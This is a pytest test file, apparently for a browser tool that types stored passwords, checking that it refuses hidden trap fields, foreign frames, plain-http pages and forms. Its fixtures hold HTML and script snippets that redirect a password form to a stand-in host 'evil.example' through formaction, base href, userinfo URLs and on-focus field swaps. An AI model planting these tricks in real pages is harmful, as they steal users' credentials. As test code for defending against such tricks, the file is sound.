from __future__ import annotations

import pytest
from tests.engine.conftest import Showing
from tests.engine.stage import SCRIPT, Stage
from tests.engine.values import ACME

from untrain.engine.fields import Field, fields_of, must_be_safe, type_into
from untrain.engine.tab import Tab
from untrain.model.errors import Unreachable, Unsafe
from untrain.model.secret import Secret

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

URL = "https://www.acme.example/login"
PASSWORD = Secret("correct-horse-battery")
FORM = (
    '<form method=post action="/session"><input type=password name=pw oninput="typed(event)"><button>Sign in</button>'
)


async def shown(tab: Tab, url: str = URL) -> list[Field]:
    await tab.page.goto(url, wait_until="load")
    await tab.rest(2.0)
    return await fields_of(tab.page)


async def refused(tab: Tab, url: str = URL) -> str:
    """Try to type the password into the page's one password field, and give the reason why it was not."""
    (field,) = [one for one in await shown(tab, url) if one.is_password]
    with pytest.raises(Unsafe) as why:
        await type_into(tab.page, ACME, field, PASSWORD)
    return str(why.value)


async def test_a_password_is_typed_into_its_own_form(showing: Showing) -> None:
    """On https, on an own host, into a field that can be seen: there it is typed."""
    stage = Stage(pages={"/login": FORM})
    async with showing(stage) as tab:
        (field,) = await shown(tab)
        await type_into(tab.page, ACME, field, PASSWORD)
        await tab.rest()

    assert ["pw=correct-horse-battery"] == stage.typed


@pytest.mark.parametrize(
    "style",
    [
        "opacity: 0",
        "opacity: 0.02",
        "display: none",
        "visibility: hidden",
        "position: absolute; left: -3000px",
        "position: absolute; top: -900px",
        "width: 1px; height: 1px; padding: 0; border: 0",
        "transform: scale(0)",
        "clip-path: inset(100%)",
        "pointer-events: none",
        "position: absolute; z-index: -1; left: 0; top: 0",
    ],
)
async def test_a_field_that_nobody_can_see_is_no_field(style: str, showing: Showing) -> None:
    """Of two password fields the one that a person cannot reach is not there at all."""
    cover = "<style>main { position: relative; z-index: 0; background: #fff; width: 600px; height: 300px }</style>"
    hidden = f'<form><input type=password name=trap style="{style}"></form>'
    stage = Stage(pages={"/login": f"{cover}{hidden}<main>{FORM}</main>"})
    async with showing(stage) as tab:
        assert ["pw"] == [field.name for field in await shown(tab)]


@pytest.mark.parametrize(
    "around",
    [
        '<div style="opacity: 0">{}</div>',
        '<div style="height: 0; overflow: hidden">{}</div>',
        '<div aria-hidden="true">{}</div>',
        "<div inert>{}</div>",
        "<div hidden>{}</div>",
        '{}<div style="position: fixed; inset: 0; background: #fff">Please wait</div>',
    ],
)
async def test_a_field_within_what_nobody_can_reach_is_no_field(around: str, showing: Showing) -> None:
    """What lies in a hidden part of the page, or under something, is not there."""
    stage = Stage(pages={"/login": around.format("<input type=password name=trap>")})
    async with showing(stage) as tab:
        assert [] == await shown(tab)


async def test_a_field_that_takes_nothing_is_no_field(showing: Showing) -> None:
    """A disabled or read-only field is not filled in."""
    stage = Stage(pages={"/login": "<input type=password disabled><input type=password readonly>"})
    async with showing(stage) as tab:
        assert [] == await shown(tab)


@pytest.mark.parametrize(
    "form",
    [
        FORM.replace("/session", "https://evil.example/session"),
        FORM.replace("/session", "http://www.acme.example/session"),
        FORM.replace("/session", "//evil.example/session"),
        FORM.replace("/session", "https://www.acme.example@evil.example/session"),
        FORM.replace("/session", "https://www.acme.example:8443/session"),
        "<base href='https://evil.example/'>" + FORM.replace("/session", "session"),
        FORM.replace("<button>", "<button type=submit formaction='https://evil.example/session'>"),
        FORM.replace("<button>", "<button formaction='https://evil.example/session'>"),
        FORM.replace("<form ", "<form id=f ")
        + "</form><button form=f formaction='https://evil.example/'>Sign in</button>",
        FORM.replace("<button>Sign in", "<input type=image alt='Sign in' formaction='https://evil.example/'>"),
    ],
    ids=["host", "http", "no-scheme", "user", "port", "base", "submit", "button", "outside", "image"],
)
async def test_nothing_is_typed_into_a_form_that_leads_elsewhere(form: str, showing: Showing) -> None:
    """A form, or its button, that would send the password to another place gets none of it."""
    stage = Stage(pages={"/login": form})
    async with showing(stage) as tab:
        assert "nothing was typed" in await refused(tab)

    assert [] == stage.typed


@pytest.mark.parametrize(
    "url",
    ["http://www.acme.example/login", "https://evil.example/login"],
)
async def test_nothing_is_typed_on_http_or_a_foreign_host(url: str, showing: Showing) -> None:
    """A page over plain http, or of another host, gets nothing."""
    stage = Stage(pages={"/login": FORM})
    async with showing(stage) as tab:
        assert "nothing was typed" in await refused(tab, url)

    assert [] == stage.typed


@pytest.mark.parametrize(
    "frame",
    [
        '<iframe src="https://evil.example/form"></iframe>',
        '<iframe src="http://www.acme.example/form"></iframe>',
        f'<iframe srcdoc="<script>{SCRIPT}</script><input type=password name=pw oninput=typed(event)>"></iframe>',
        '<iframe src="https://evil.example/frame"></iframe>',  # which holds one of our own
    ],
    ids=["foreign", "http", "srcdoc", "own-in-foreign"],
)
async def test_nothing_is_typed_into_a_foreign_frame(frame: str, showing: Showing) -> None:
    """A field in a frame that is not the platform's own, or that lies in such a frame, gets nothing."""
    pages = {"/login": frame, "/form": FORM, "/frame": '<iframe src="https://www.acme.example/form"></iframe>'}
    stage = Stage(pages=dict(pages))
    async with showing(stage) as tab:
        fields = [one for one in await shown(tab) if one.is_password]
        for field in fields:  # a browser may refuse to load plain http within https
            with pytest.raises(Unsafe):
                await type_into(tab.page, ACME, field, PASSWORD)
        assert bool(fields) is ("http:" not in frame)

    assert [] == stage.typed


async def test_a_frame_of_an_own_host_is_as_good_as_the_page(showing: Showing) -> None:
    """A sign-in in a frame of the platform itself is filled in."""
    stage = Stage(pages={"/login": '<iframe src="https://acme.example/form"></iframe>', "/form": FORM})
    async with showing(stage) as tab:
        (field,) = await shown(tab)
        must_be_safe(tab.page, ACME, field)
        await type_into(tab.page, ACME, field, PASSWORD)
        await tab.rest()

    assert ["pw=correct-horse-battery"] == stage.typed


@pytest.mark.parametrize(
    "trick",
    [
        "pw.replaceWith(Object.assign(pw.cloneNode(), { onfocus: null }))",  # looks the same, and is another
        "pw.form.action = 'https://evil.example/'",
        "pw.type = 'text'",
        "pw.name = 'other'",
        "location = 'https://evil.example/login'",
    ],
    ids=["replaced", "target", "type", "name", "leaves"],
)
async def test_a_field_that_changes_when_it_is_entered_gets_no_keystroke(trick: str, showing: Showing) -> None:
    """A page that swaps the field, its form or itself as the field gets the focus is not typed into."""
    form = FORM.replace("<input ", "<input id=pw ") + f"</form><script>pw.onfocus = () => {{ {trick} }}</script>"
    stage = Stage(pages={"/login": form})
    async with showing(stage) as tab:
        (field,) = await shown(tab)
        with pytest.raises((Unsafe, Unreachable)):  # a page that is just leaving may be gone already
            await type_into(tab.page, ACME, field, PASSWORD)
        await tab.rest(1.0)

    assert [] == stage.typed


@pytest.mark.parametrize(
    ("tag", "kind"),
    [
        ("<input type=password name=x>", "password"),
        ("<input type=password autocomplete=one-time-code>", "code"),
        ("<input autocomplete=username>", "identifier"),
        ("<input type=email aria-label=Adresse>", "identifier"),
        ("<input name=session_key>", "identifier"),
        ("<label>E-Mail oder Telefon <input></label>", "identifier"),
        ("<input placeholder='Verification code' maxlength=6>", "code"),
        ("<input inputmode=numeric maxlength=6>", "code"),
        ("<input aria-label=Search>", None),
        ("<textarea name=text></textarea>", None),
    ],
)
async def test_a_field_is_known_by_what_it_says_of_itself(tag: str, kind: str | None, showing: Showing) -> None:
    """A field is a user name, a password, a code, or none of them: by its type, its hints and its words."""
    async with showing(Stage(pages={"/login": tag})) as tab:
        (field,) = await shown(tab)

    known = {"password": field.is_password, "code": field.is_code, "identifier": field.is_identifier}
    assert [kind] == ([name for name, is_one in known.items() if is_one] or [None])
